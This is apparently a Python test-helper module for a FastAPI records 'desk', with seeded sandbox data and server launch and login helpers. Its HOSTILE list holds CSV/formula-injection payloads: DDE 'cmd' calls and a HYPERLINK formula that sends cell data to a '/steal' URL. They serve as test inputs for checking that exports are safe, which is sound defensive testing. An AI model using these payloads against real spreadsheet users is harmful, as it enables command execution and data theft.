"""Helpers the desk tests share: a real snapshot from the sandbox world, staff accounts, a served desk."""

from __future__ import annotations

import os
import signal
import socket
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from pathlib import Path
from typing import Protocol

import httpx
import uvicorn
from fastapi import FastAPI
from playwright.sync_api import Page, expect

from desk import create_app
from robots.runtime import discover
from robots.sandbox_civil import ElderlyCare
from robots.sandbox_population import Person
from sandbox import World
from settings import Settings, load_settings
from store import Field, Record, Store, make_engine

PASSWORD = "Desk-Pass-2026"  # every test user's; a test that looks for leaks searches for it

# Typed into a government system by the companies themselves; each would run in Excel or WPS.
HOSTILE = [
    '=HYPERLINK("http://127.0.0.1:9/steal?d="&A3,"点此查看")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]

Household = discover()["households"].record  # declared in robots/sandbox_households.toml


class Company(Record):
    """A market entity as the market system lists it: its name and address typed by its owners."""

    credit_code: str = Field(key=True, title="统一社会信用代码")
    name: str = Field(title="企业名称")
    address: str = Field(title="经营场所")
    capital: float = Field(title="注册资本")
    staff: int = Field(title="从业人数")


def companies() -> list[dict[str, object]]:
    rows: list[dict[str, object]] = [
        {"credit_code": f"91330102MA{n:08d}", "name": text, "address": text, "capital": -1200.5, "staff": n}
        for n, text in enumerate(HOSTILE)
    ]
    rows.append(
        {
            "credit_code": "91330102MA99999999",
            "name": "东湖商行",
            "address": "东湖路1号",
            "capital": 50.0,
            "staff": 3,
        }
    )
    return rows


def seed_snapshot(settings: Settings, world: World) -> Store:
    """Persons, households and elderly-care records of every community, published run by run as the
    demo robots would publish them (one run per dataset and community)."""
    store = Store(make_engine(settings.resolved_database_url))
    for dataset, model, frame in (
        ("persons", Person, world.persons),
        ("households", Household, world.households.astype({"building": str, "unit": str, "room": str})),
        ("elderly", ElderlyCare, world.elderly),
    ):
        for scope, rows in frame.groupby("community"):
            run = store.begin_run(
                robot=dataset, dataset=dataset, model=model, system="sandbox", account=scope, scope=scope
            )
            store.stage(run, rows.to_dict(orient="records"))
            store.publish(run)
    return store


def seeded_desk(world: World, data: Path) -> FastAPI:
    """The desk over a snapshot of ``world`` in a SQLite file of ``data``, as `harvest serve` builds it."""
    settings = load_settings(data_dir=data, database_url=f"sqlite:///{data / 'harvest.db'}")
    seed_snapshot(settings, world)
    return create_app(settings)


@contextmanager
def served(app: FastAPI) -> Iterator[str]:
    """``app`` served by uvicorn on a free 127.0.0.1 port from a thread; yields its base URL."""
    server = uvicorn.Server(
        uvicorn.Config(
            app,
            host="127.0.0.1",
            port=0,
            log_level="warning",
            access_log=False,
            lifespan="off",
            proxy_headers=False,  # as `harvest serve` with no HARVEST_DESK_TRUSTED_PROXIES
        )
    )
    thread = threading.Thread(target=server.run, name="desk", daemon=True)
    thread.start()
    deadline = time.monotonic() + 20
    while not server.started:
        if not thread.is_alive() or time.monotonic() > deadline:
            raise RuntimeError("the desk did not start")
        time.sleep(0.02)
    port = server.servers[0].sockets[0].getsockname()[1]
    try:
        yield f"http://127.0.0.1:{port}"
    finally:
        server.should_exit = True
        thread.join(10)


def free_port() -> int:
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        return probe.getsockname()[1]


@dataclass(frozen=True)
class Served:
    """A `harvest serve` process: where it answers, and the file that holds all it printed."""

    url: str
    process: subprocess.Popen[bytes]
    output: Path

    def stop(self) -> str:
        """SIGTERM, as an operator stops it; everything it printed (stdout and stderr)."""
        if self.process.poll() is None:
            self.process.send_signal(signal.SIGTERM)
            self.process.wait(timeout=20)
        return self.output.read_text(errors="replace")


@contextmanager
def harvest_serve(data_dir: Path, **env: str) -> Iterator[Served]:
    """``harvest serve`` as an operator runs it, in its own process on a free 127.0.0.1 port, with
    ``env`` (HARVEST_… settings) on top of the test's own; what it prints goes to a file, so a
    long run never fills a pipe."""
    port = free_port()
    output = data_dir.parent / f"serve-{port}.out"
    data_dir.mkdir(parents=True, exist_ok=True)
    inherited = {k: v for k, v in os.environ.items() if k != "HARVEST_DATABASE_URL"}  # the data dir's own
    environment = {**inherited, "HARVEST_DATA_DIR": str(data_dir), "COLUMNS": "200", **env}
    with output.open("wb") as sink:
        process = subprocess.Popen(
            [sys.executable, "-m", "cli", "serve", "--port", str(port)],
            stdout=sink,
            stderr=subprocess.STDOUT,
            env=environment,
            cwd=Path(__file__).parent.parent,
        )
    served = Served(f"http://127.0.0.1:{port}", process, output)
    try:
        deadline = time.monotonic() + 60
        while True:
            try:
                httpx.get(f"{served.url}/login", timeout=2)
                break
            except httpx.TransportError:
                if process.poll() is not None or time.monotonic() > deadline:
                    raise RuntimeError(
                        f"the desk did not start: {output.read_text(errors='replace')}"
                    ) from None
                time.sleep(0.2)
        yield served
    finally:
        # SIGTERM first: with --workers, a SIGKILLed supervisor leaves its worker processes behind.
        process.terminate()
        try:
            process.wait(timeout=20)
        except subprocess.TimeoutExpired:
            process.kill()
            process.wait(timeout=20)


class AtUrl(Protocol):
    url: str


def log_in(page: Page, desk: AtUrl, name: str, password: str = PASSWORD) -> None:
    """Log ``page`` into the desk served at ``desk.url`` as ``name``, through its login form."""
    page.goto(f"{desk.url}/login")
    page.get_by_label("用户名").fill(name)
    page.get_by_label("密码").fill(password)
    page.get_by_role("button", name="登录").click()
    expect(page.locator("header .who")).to_contain_text(name)
